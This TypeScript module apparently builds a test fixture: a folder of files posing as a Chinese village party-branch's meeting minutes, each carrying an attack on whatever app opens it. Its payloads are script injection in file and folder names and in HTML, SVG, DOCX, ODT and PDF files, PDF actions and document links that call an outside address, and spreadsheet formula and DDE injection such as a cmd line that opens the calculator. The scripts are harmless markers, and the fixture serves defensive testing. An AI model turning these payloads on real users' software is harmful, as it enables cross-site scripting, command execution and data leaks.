import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { strToU8, zipSync } from 'fflate';

/** What each file tries: to run this in the page, or to have the page call out. */
const script = 'window.attacked=(window.attacked||0)+1';
const minutes = (day: string) => ['石桥村党支部支部委员会会议记录', `时间：2024年3月${day}日`, '地点：村部', '主持人：靳有田', '记录人：路广财', '应到3人，实到3人', '议题：春耕'];

/**
 * A branch's folder in which every file is an attack on whoever looks at it.
 *
 * @param outside an address that nothing may ask for
 * @returns how many files there are
 */
export async function writeHostileFolder(folder: string, outside: string): Promise<number> {
  const branch = join(folder, '石桥村<img src=x onerror=window.attacked=1>');
  await mkdir(branch, { recursive: true });
  const files: Readonly<Record<string, string | Uint8Array>> = {
    '=HYPERLINK("x")会议记录.txt': minutes('1').join('\n'),
    '会议"><script>window.attacked=1;.txt': minutes('2').join('\n'),
    '网页记录.html': `<!doctype html><base href="${outside}"><meta http-equiv="refresh" content="0;url=${outside}"><link rel="stylesheet" href="${outside}/a.css"><script>${script}</script><script src="${outside}/a.js"></script><body onload="${script}">${minutes('3').map((line) => `<p>${line}</p>`).join('')}<img src="${outside}/a.png" onerror="${script}"><iframe src="javascript:${script}"></iframe><svg onload="${script}"></svg></body>`,
    '图.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="${outside}/b.png"/></svg>`,
    '假照片.jpg': `<!doctype html><script>${script}</script>`,
    '假照片.png': `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
    '记录.docx': hostileDocx(outside),
    '记录.odt': hostileOdt(outside),
    '会带动作.pdf': hostilePdf(outside),
    '台账.csv': `姓名,备注\n=HYPERLINK("${outside}","看"),+1+1\n@SUM(1),-2+3`,
    '台账.xlsx': await hostileWorkbook(outside),
  };
  for (const [name, content] of Object.entries(files)) await writeFile(join(branch, name.replaceAll('/', '／')), content);
  return Object.keys(files).length;
}

function hostileDocx(outside: string): Uint8Array {
  const paragraphs = [...minutes('4'), `<script>${script}</script>`, `<img src=x onerror="${script}">`].map((line) => `<w:p><w:r><w:t xml:space="preserve">${escaped(line)}</w:t></w:r></w:p>`).join('');
  return zipSync({
    '[Content_Types].xml': strToU8('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
    '_rels/.rels': strToU8('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
    'word/document.xml': strToU8(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${paragraphs}<w:altChunk r:id="r2"/></w:body></w:document>`),
    'word/_rels/document.xml.rels': strToU8(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="a.html"/><Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="${outside}/t.dotm"/><Relationship Id="r4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" TargetMode="External" Target="${outside}/c.png"/></Relationships>`),
    'word/a.html': strToU8(`<script>${script}</script>`),
  });
}

function hostileOdt(outside: string): Uint8Array {
  const paragraphs = minutes('5').map((line) => `<text:p>${line}</text:p>`).join('');
  return zipSync({
    mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'content.xml': strToU8(`<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts><office:script script:language="JavaScript">${script}</office:script></office:scripts><office:body><office:text>${paragraphs}<text:p><draw:frame><draw:image xlink:href="Pictures/1.svg"/></draw:frame><draw:frame><draw:image xlink:href="${outside}/d.png"/></draw:frame></text:p></office:text></office:body></office:document-content>`),
    'Pictures/1.svg': strToU8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`),
    'META-INF/manifest.xml': strToU8('<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>'),
  });
}

/** Opens a script, sends itself off, and links outside. */
function hostilePdf(outside: string): string {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script}; app.alert\\(1\\); this.submitForm\\("${outside}"\\);) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${outside}) >> >>] /AA << /O << /S /URI /URI (${outside}) >> >> >>`,
    '<< /Length 44 >>\nstream\nBT /F1 12 Tf 20 100 Td (javascript:alert) Tj ET\nendstream',
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text.length;
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF`;
}

async function hostileWorkbook(outside: string): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('=1+1');
  sheet.addRow(['姓名', '备注']);
  sheet.addRow([{ formula: `HYPERLINK("${outside}","看这里")`, result: '看这里' }, { formula: `WEBSERVICE("${outside}")`, result: '' }]);
  sheet.addRow(["=cmd|' /C calc'!A0", '<script>window.attacked=1</script>']);
  sheet.addRow([{ text: '链接', hyperlink: `javascript:${script}` }, '+1+1']);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
}
